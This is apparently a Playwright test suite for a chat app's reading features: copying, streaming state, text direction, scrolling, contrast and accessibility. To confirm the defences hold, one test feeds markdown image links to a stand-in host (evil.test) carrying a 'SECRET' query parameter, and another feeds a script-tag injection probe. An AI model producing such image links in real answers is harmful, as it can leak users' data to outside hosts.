"""Reading: what one does with an answer besides looking at it, and what stays as the reader has set it."""

import re
from collections.abc import Iterator

import pytest
from playwright.sync_api import Page

from tests.browser import Browser, as_fresh, connected, held
from tests.place import Place, Visitor
from tests.scripted import END, Scripted, text, thought

TAKEN = "navigator.clipboard.readText()"
NESTED = "```markdown\n# T\n```py\nprint(1)\n```\nafter <b>inner</b> & more\n```\n"
LONG = "\n".join(f"Line {number}  <b>x</b>\t& so on" for number in range(60))
TOKENS = ("keyword", "name", "string", "number", "comment", "wrong")


@pytest.fixture(scope="module")
def script() -> Iterator[Scripted]:
    scripted = Scripted()
    yield scripted
    scripted.close()


@pytest.fixture(scope="module")
def place(script: Scripted, tmp_path_factory: pytest.TempPathFactory) -> Iterator[Place]:
    opened = Place(tmp_path_factory.mktemp("reading"), script)
    yield opened
    opened.close()


@pytest.fixture
def ada(place: Place) -> Visitor:
    return place.visitor()


def copies(page: Page) -> Page:
    page.context.grant_permissions(["clipboard-read", "clipboard-write"])
    return page


def taken(page: Page, before: str = "") -> str:
    """What is in the clipboard once it is no longer BEFORE."""
    held(page, f"{TAKEN}.then(words => words !== {before!r} && words !== '')")
    return page.evaluate(TAKEN)


def test_code_and_messages_are_copied_as_they_were_written(
    place: Place, script: Scripted, browser: Browser, ada: Visitor
):
    answer = f"Here, *see*:\n\n{NESTED}\nAnd [a link](https://a.test).\n"
    script.says(answer)
    garden = ada.begins(LONG)
    place.settled(garden)
    page = copies(browser.page(ada, garden))
    page.locator("[data-action=copy-code]").click()
    code = taken(page)
    assert code == NESTED.removeprefix("```markdown\n").removesuffix("\n```\n")
    assert page.locator("#told").inner_text() == "Copied"
    page.locator(".answer [data-action=copy]").click()
    assert taken(page, code) == answer
    page.locator(".user [data-action=copy]").focus()
    page.keyboard.press("Enter")
    assert taken(page, answer) == LONG, "all of it, though it is folded"
    held(page, "!document.querySelector('[data-copied]')")
    assert as_fresh(page)


def test_without_a_clipboard_of_the_browser_it_is_copied_all_the_same(
    place: Place, script: Scripted, browser: Browser, ada: Visitor
):
    """A page without TLS has none; a server of one's own is often reached so."""
    script.says(NESTED)
    garden = ada.begins("Show me")
    place.settled(garden)
    window = browser.context(ada)
    window.add_init_script("Object.defineProperty(navigator, 'clipboard', {value: undefined, configurable: true})")
    page = window.new_page()
    page.goto(f"{place.url}/conversations/{garden}")
    connected(page)
    page.locator(".answer [data-action=copy]").click()
    page.locator("[data-copied]").wait_for()
    page.get_by_label("Your message").focus()
    page.keyboard.press("Control+V")
    assert page.get_by_label("Your message").input_value() == NESTED


def test_the_source_of_a_message_is_plain_text(place: Place, script: Scripted, ada: Visitor):
    script.says("<script>alert(1)</script> *é*")
    garden = ada.begins("Tell me")
    place.settled(garden)
    item = place.items(garden)[-1]
    answer = ada.client.get(f"/conversations/{garden}/items/{item.id}/source")
    assert (answer.status_code, answer.text) == (200, item.text)
    assert answer.headers["Content-Type"] == "text/plain; charset=utf-8"
    assert answer.headers["X-Content-Type-Options"] == "nosniff"
    other = ada.begins("Another")
    assert ada.client.get(f"/conversations/{other}/items/{item.id}/source").status_code == 404
    place.settled(other)


def test_what_the_reader_has_set_stays_while_the_answer_grows(
    place: Place, script: Scripted, browser: Browser, ada: Visitor
):
    """Open folds, wrapped code, focus and selection; and the fold says how long was thought."""
    gates = [script.gate() for _ in range(3)]
    script.plays(
        *(thought("First the Moon.\n\n"), gates[0], thought("Then the Sun.")),
        *(text("Words to choose.\n\n```py\nx = 1\n"), gates[1], text("y = 2\n```\n\nsee [doc](htt")),
        *(gates[2], text("ps://a.b/c) and <https:"), text("//a.b>"), *END),
    )
    garden = ada.begins(LONG)
    page = browser.page(ada, garden)
    page.get_by_text("Thinking…").click()
    page.get_by_text("First the Moon.").wait_for()
    page.get_by_label("Show all").check()
    gates[0].open()
    page.get_by_text("Then the Sun.").wait_for()
    page.get_by_text(re.compile("Thought for (a moment|\\d+ s)")).wait_for()
    assert page.locator(".code code").inner_text() == "x = 1\n"
    page.get_by_label("Wrap").check()
    page.locator(".code pre").focus()
    page.evaluate("getSelection().selectAllChildren(document.querySelector('.answer p'))")
    gates[1].open()
    page.locator(".code [data-lines='2 lines'] .mi").first.wait_for()
    assert page.get_by_text("see [doc](htt").is_visible()
    assert page.locator(".answer a").count() == 0, "half a link leads nowhere"
    gates[2].open()
    place.settled(garden)
    page.locator("#status[data-status=idle]").wait_for(state="attached")
    assert page.get_by_text("First the Moon.").is_visible()
    assert page.get_by_label("Wrap").is_checked() and page.get_by_label("Show all").is_checked()
    assert page.evaluate("document.activeElement.matches('.code pre')")
    assert page.evaluate("String(getSelection())").strip() == "Words to choose."
    assert [link.get_attribute("href") for link in page.locator(".answer a").all()] == ["https://a.b/c", "https://a.b"]
    page.locator("details[open]").first.evaluate("fold => fold.open = false")
    assert as_fresh(page)


def test_a_fold_that_is_open_stays_open_when_the_page_comes_back(
    place: Place, script: Scripted, browser: Browser, ada: Visitor
):
    script.says("Fine.", thinks="Hidden thoughts.")
    garden = ada.begins(LONG)
    place.settled(garden)
    page = browser.page(ada, garden)
    page.locator(".reasoning summary").click()
    page.get_by_label("Show all").check()
    page.evaluate("document.querySelector('#main').dataset.cursor = 0")
    page.evaluate("document.querySelector('#main')._htmx.ws.connection.socket.close()")
    held(page, "document.querySelector('#main').dataset.cursor !== '0'")
    connected(page)
    assert page.get_by_text("Hidden thoughts.").is_visible()
    assert page.get_by_label("Show all").is_checked()


def test_a_long_message_shows_its_beginning_until_all_is_asked_for(
    place: Place, script: Scripted, browser: Browser, ada: Visitor
):
    script.says("Fine.")
    garden = ada.begins(LONG)
    place.settled(garden)
    page = browser.page(ada, garden)
    said = page.locator(".user__text")
    assert said.bounding_box()["height"] < 300
    assert said.evaluate("said => said.textContent") == LONG, "the exact characters are there"
    page.get_by_label("Show all").focus()
    page.keyboard.press("Space")
    assert said.bounding_box()["height"] > 1000


def test_the_direction_of_a_conversation_turns_on_all_its_pages(
    place: Place, script: Scripted, browser: Browser, ada: Visitor
):
    script.says("English words.\n\nسلام دنیا.\n\n> نقل\n\n```py\nx = 'שלום'\n```\n\n$$x^2$$\n")
    garden = ada.begins("Both, please")
    place.settled(garden)
    page, other = browser.page(ada, garden), browser.page(ada, garden)
    assert directions(other) == ["ltr", "rtl", "rtl", "ltr", "ltr"]
    quotation = other.locator("blockquote").evaluate("one => getComputedStyle(one).borderRightWidth")
    assert quotation == "2px", "the line is on the side where its words begin"
    page.locator("[data-action=direction]").click()
    page.get_by_role("button", name="right to left").click()
    other.locator("#direction[data-direction=rtl]").wait_for(state="attached")
    assert directions(other) == ["rtl"] * 5
    assert other.locator(".code").evaluate("one => getComputedStyle(one).direction") == "ltr"
    page.locator("[data-action=direction]").click()
    page.keyboard.press("Escape")
    assert not page.locator("#direction").is_visible()
    refused = ada.client.post(f"/conversations/{garden}/direction", data={"direction": "up"})
    assert refused.status_code == 400 and "left to right" in refused.text


def directions(page: Page) -> list[str]:
    return page.locator(".block").evaluate_all("blocks => blocks.map(block => getComputedStyle(block).direction)")


def test_no_image_of_others_is_fetched_and_each_says_whose_it_is(
    place: Place, script: Scripted, browser: Browser, ada: Visitor
):
    script.says(
        "![x](https://evil.test/p.png?d=SECRET) <img src=//evil.test> ![a][1] ![a](\\\\evil.test/x)\n\n"
        "[1]: https://evil.test/1\n"
    )
    garden = ada.begins("![x](https://evil.test/title.png)")
    place.settled(garden)
    page = browser.context(ada).new_page()
    asked: list[str] = []
    page.on("request", lambda request: asked.append(request.url))
    page.goto(f"{place.url}/conversations/{garden}")
    connected(page)
    chips = page.locator(".outside-image")
    assert [chip.inner_text() for chip in chips.all()] == [
        "Outside image from evil.test: x",
        "Outside image from evil.test: a",
    ]
    assert chips.first.get_attribute("rel") == "noopener noreferrer nofollow"
    assert asked and all(url.startswith((place.url, place.url.replace("http", "ws"))) for url in asked)
    assert page.locator("#items img").count() == 0


def test_tables_code_and_formulas_scroll_by_keys(place: Place, script: Scripted, browser: Browser, ada: Visitor):
    row = "|" + " a cell |" * 14
    script.says(f"{row}\n|{'---|' * 14}\n{row}\n\n```js\n{'long ' * 800}\n```\n\n$${' + '.join(['x^2'] * 60)}$$\n")
    garden = ada.begins("Show me much")
    place.settled(garden)
    page = browser.page(ada, garden, viewport={"width": 320, "height": 640})
    for kind in (".table", ".code pre", "math"):
        part = page.locator(f".content {kind}")
        part.focus()
        page.keyboard.press("ArrowRight")
        held(page, f"document.querySelector('.content {kind}').scrollLeft > 0")
    assert page.evaluate("document.scrollingElement.scrollWidth") == 320


def test_the_colours_of_code_can_be_read_by_day_and_by_night(
    place: Place, script: Scripted, browser: Browser, ada: Visitor
):
    page = browser.page(ada)
    for scheme in ("light", "dark"):
        page.emulate_media(color_scheme=scheme)
        for name in TOKENS:
            assert page.evaluate(CONTRAST, [f"--color-code-{name}", "--color-quiet"]) >= 4.5, (scheme, name)


CONTRAST = """names => {
  const paper = document.createElement("canvas").getContext("2d", { willReadFrequently: true });
  const probe = document.body.appendChild(document.createElement("i"));
  const [one, other] = names.map(name => {
    probe.style.color = `var(${name})`;
    paper.fillStyle = getComputedStyle(probe).color;
    paper.fillRect(0, 0, 1, 1);
    const light = [...paper.getImageData(0, 0, 1, 1).data].slice(0, 3).map(part => part / 255)
      .map(part => part <= 0.04045 ? part / 12.92 : ((part + 0.055) / 1.055) ** 2.4);
    return 0.2126 * light[0] + 0.7152 * light[1] + 0.0722 * light[2];
  });
  return (Math.max(one, other) + 0.05) / (Math.min(one, other) + 0.05);
}"""


def test_every_page_of_an_answer_has_one_outline(place: Place, script: Scripted, browser: Browser, ada: Visitor):
    axe = pytest.importorskip("axe_playwright_python.sync_playwright").Axe()
    script.says("### Deep first\n\n# Top\n\n#### Skipped\n\n> # Quoted\n\n- [x] done\n\n```py\nx\n```\n```py\ny\n```\n")
    garden = ada.begins(LONG)
    place.settled(garden)
    page = browser.page(ada, garden)
    levels = page.locator(".content :is(h1, h2, h3, h4, h5, h6)").evaluate_all("all => all.map(one => one.tagName)")
    assert levels == ["H3", "H3", "H4", "H5"]
    found = axe.run(page).response
    assert any(rule["id"] == "heading-order" for rule in found["passes"]), "the rule was tried"
    assert [(rule["id"], [node["html"] for node in rule["nodes"]]) for rule in found["violations"]] == []


def test_the_foot_says_what_an_answer_used(place: Place, script: Scripted, ada: Visitor):
    script.plays(text("Fine."), *END)
    garden = ada.begins("Tell me")
    place.settled(garden)
    numbers = r'title="([^"]+)"><span class="foot__model">[^<]+</span> <span class="foot__line">([^<]+)<'
    line, title = re.search(numbers, ada.sees(garden)).group(2, 1)
    assert re.fullmatch(r"5 tokens · \d\.\d s( · \d+ tokens/s)?", line)
    assert re.fullmatch(r"12 tokens read, 5 written, the first after \d\.\d s, all in \d\.\d s", title)
